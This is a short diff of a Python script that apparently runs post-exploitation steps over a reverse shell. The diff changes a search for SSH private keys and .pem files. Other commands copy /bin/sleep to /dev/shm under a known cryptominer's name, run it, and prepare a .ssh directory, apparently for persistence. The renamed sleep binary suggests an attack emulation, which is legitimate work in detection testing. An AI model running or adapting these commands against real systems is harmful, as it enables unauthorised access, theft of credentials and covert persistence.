@@ -57,7 +57,7 @@ def main():
     say(f'reverse shell on port {back}')
     shell_session(listener, [
         'uname -a; id',
-        "find / -maxdepth 3 -name id_rsa -o -maxdepth 3 -name '*.pem' 2>/dev/null | head -3",
+        f"find {home} /etc/ssl -maxdepth 2 -name id_rsa -o -maxdepth 2 -name '*.pem' 2>/dev/null | head -3",
         'cp /bin/sleep /dev/shm/kdevtmpfsi; chmod +x /dev/shm/kdevtmpfsi',
         '/dev/shm/kdevtmpfsi 0.2',
         f'mkdir -p {home}/.ssh; chmod 700 {home}/.ssh',
